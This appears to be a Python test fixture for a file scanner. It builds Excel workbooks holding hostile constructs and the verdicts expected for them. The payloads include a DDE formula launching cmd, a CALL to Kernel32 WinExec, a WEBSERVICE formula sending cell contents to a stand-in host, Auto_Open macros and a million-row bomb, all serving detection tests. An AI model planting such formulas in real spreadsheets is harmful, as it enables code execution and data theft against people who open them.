"""Excel files that reach elsewhere, calculate or hold something active."""

from tests.hostile.office_parts import (
    ACTIVE,
    ASKS,
    BOMB,
    DAMAGED,
    DDE,
    FORMULAS,
    LINK,
    book,
    cell,
    sheet_with,
)
from tests.hostile.packages import R, S, W, docx, relations, replaced, sheet_parts, xlsx, zipped

ELSEWHERE = {
    "a condition of a format": lambda: sheet_with(
        '<conditionalFormatting sqref="A1"><cfRule'
        f' type="expression"><formula>{ASKS}</formula></cfRule></conditionalFormatting>'
    ),
    "a threshold of a format": lambda: sheet_with(
        f"<cfRule><iconSet><cfvo type='formula' val='{ASKS}'/></iconSet></cfRule>"
    ),
    "a check of input": lambda: sheet_with(
        f"<dataValidation sqref='A1'><formula1>{ASKS}</formula1></dataValidation>"
    ),
    "the second value of a check": lambda: sheet_with(
        f"<dataValidation><formula1>1</formula1><formula2>{ASKS}</formula2></dataValidation>"
    ),
    "a later check of input": lambda: sheet_with(
        f"<x:formula1 xmlns:x='urn:x'>\n<x:f>{ASKS}</x:f>\n</x:formula1>"
    ),
    "a name": lambda: xlsx(
        names=f'<definedNames><definedName name="a">{ASKS}</definedName></definedNames>'
    ),
    "a column of a table": lambda: book(
        "table",
        "xl/tables/t.xml",
        f"{S}.table+xml",
        "<table><tableColumn"
        f" name='a'><calculatedColumnFormula>{ASKS}</calculatedColumnFormula>"
        "</tableColumn></table>",
    ),
    "the last row of a table": lambda: book(
        "table",
        "xl/tables/t.xml",
        f"{S}.table+xml",
        "<table><tableColumn"
        f" name='a'><totalsRowFormula>{ASKS}</totalsRowFormula></tableColumn></table>",
    ),
    "a chart": lambda: book(
        "chart", "xl/charts/c.xml", f"{S[:-14]}.drawingml.chart+xml", f"<c><f>{ASKS}</f></c>"
    ),
    "a drawn text": lambda: book(
        "drawing", "xl/d.xml", f"{S[:-14]}.drawing+xml", f"<sp textlink='{ASKS}'/>"
    ),
    "a field of a pivot": lambda: book(
        "pivotCacheDefinition",
        "xl/p.xml",
        f"{S}.pivotCacheDefinition+xml",
        f"<a><cacheField formula='{ASKS}'/></a>",
    ),
    "a button of old": lambda: xlsx(
        more_types=(
            '<Default Extension="vml"'
            ' ContentType="application/vnd.openxmlformats-officedocument.vmlDrawing"/>'
        ),
        parts={"xl/drawings/d.vml": f"<xml><x:FmlaMacro>{ASKS}</x:FmlaMacro></xml>"},
    ),
}
ACTIVE_EXCEL = {
    "Excel 4 macros": lambda: book(
        "xlMacrosheet", "xl/macrosheets/s.xml", "application/vnd.ms-excel.macrosheet+xml"
    ),
    "Excel 4 macros, called a sheet": lambda: book(
        "worksheet", "xl/m.xml", "application/vnd.ms-excel.macrosheet+xml"
    ),
    "old dialog sheet": lambda: book("dialogsheet", "xl/d.xml", f"{S}.dialogsheet+xml"),
    "workbook with macros": lambda: xlsx(
        main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    ),
    "macro part": lambda: book(
        "vbaProject", "xl/vbaProject.bin", "application/vnd.ms-office.vbaProject", b"x"
    ),
    "macro as a name": lambda: xlsx(
        names='<definedNames><definedName name="Auto_Open" xlm="1">A1</definedName></definedNames>'
    ),
    "DDE link": lambda: book("externalLink", "xl/externalLinks/e.xml", LINK, DDE),
    "linked object in a workbook": lambda: book(
        "externalLink", "xl/e.xml", LINK, '<externalLink><oleLink r="1"/></externalLink>'
    ),
    "data of a connection": lambda: book(
        "connections", "xl/connections.xml", f"{S}.connections+xml"
    ),
    "table from the web": lambda: book("queryTable", "xl/q.xml", f"{S}.queryTable+xml"),
    "data that refreshes itself": lambda: book(
        "volatileDependencies", "xl/v.xml", f"{S}.volatileDependencies+xml"
    ),
    "DDE formula": lambda: xlsx("<row><c><f>cmd|'/c calc'!A0</f></c></row>"),
    "formula that asks the web": lambda: xlsx(
        '<row><c><f>_xlfn.WEBSERVICE("http://vi.du/"&amp;A1)</f></c></row>'
    ),
    "formula that loads a library": lambda: xlsx(
        '<row><c><f>1+CALL("Kernel32","WinExec","JC")</f></c></row>'
    ),
    **{f"formula: {kind}": lambda text=text: cell(text) for kind, text in FORMULAS.items()},
    **{f"web address asked in {kind}": make for kind, make in ELSEWHERE.items()},
    "embedded document in a workbook": lambda: book(
        "package", "xl/embeddings/d.docx", f"{W}.document", b"PK"
    ),
    "form with ActiveX": lambda: book(
        "control", "xl/activeX/a.xml", "application/vnd.ms-office.activeX+xml"
    ),
}
OTHER_BOOK = f'<externalLink xmlns:r="{R}"><externalBook r:id="rId1"/></externalLink>'
EXCEL = {
    "data of another workbook": (
        "a.xlsx",
        lambda: book(
            "externalLink",
            "xl/externalLinks/e1.xml",
            LINK,
            OTHER_BOOK,
            parts={
                "xl/externalLinks/_rels/e1.xml.rels": relations(
                    ("externalLinkPath", "file:///C:/so-lieu.xlsx", "External")
                )
            },
        ),
        ACTIVE,
    ),
    **{
        f"formula that asks another workbook: {formula}": (
            "a.xlsx",
            lambda formula=formula: cell(formula),
            ACTIVE,
        )
        for formula in (
            "SUM([1]Sheet1!A1)",
            "[1]!Ten",
            "'[1]Tháng 1'!A1",
            "'C:\\a\\[b.xlsx]Một'!A1",
            "'http://vi.du/[b.xlsx]Một'!A1",
            "'\\\\may-la\\a\\b.xlsx'!Ten",
        )
    },
    **{
        f"formula that leads to a file: {formula}": (
            "a.xlsx",
            lambda formula=formula: cell(formula),
            ACTIVE,
        )
        for formula in (
            'HYPERLINK("file:///C:/Windows/System32/calc.exe")',
            'HYPERLINK("file:"&amp;"///C:/a.exe")',
            "HYPERLINK(A1)",
        )
    },
    "elements within a formula": ("a.xlsx", lambda: cell("SU<x/>M(1)"), DAMAGED),
    "number that is none": (
        "a.xlsx",
        lambda: xlsx('<row r="x"><c r="1A" s="?"><v>abc</v></c></row>'),
        None,
    ),
    "text number out of range": (
        "a.xlsx",
        lambda: xlsx('<row r="1"><c r="A1" t="s"><v>-7</v></c></row>'),
        None,
    ),
    "row of five thousand digits": (
        "a.xlsx",
        lambda: xlsx(f'<row r="{"9" * 5000}"><c><v>1</v></c></row>'),
        None,
    ),
    "a million rows": (
        "a.xlsx",
        lambda: xlsx("<row><c><v>1</v></c></row>" * 990_000),
        (BOMB, "damaged"),
    ),
    "no sheet part": ("a.xlsx", lambda: replaced(sheet_parts(), sheet=None), None),
    "sheet cut short": (
        "a.xlsx",
        lambda: replaced(sheet_parts(), sheet="<worksheet><sheetData><row"),
        DAMAGED,
    ),
    "Word file called a workbook": ("a.xlsx", docx, "ending_differs"),
    "binary workbook": (
        "a.xlsx",
        lambda: zipped({"[Content_Types].xml": "<Types/>", "xl/workbook.bin": b"x"}),
        "kind_refused",
    ),
    "a bare line as sheet": ("a.xlsx", lambda: replaced(sheet_parts(), sheet="chi bộ"), DAMAGED),
}
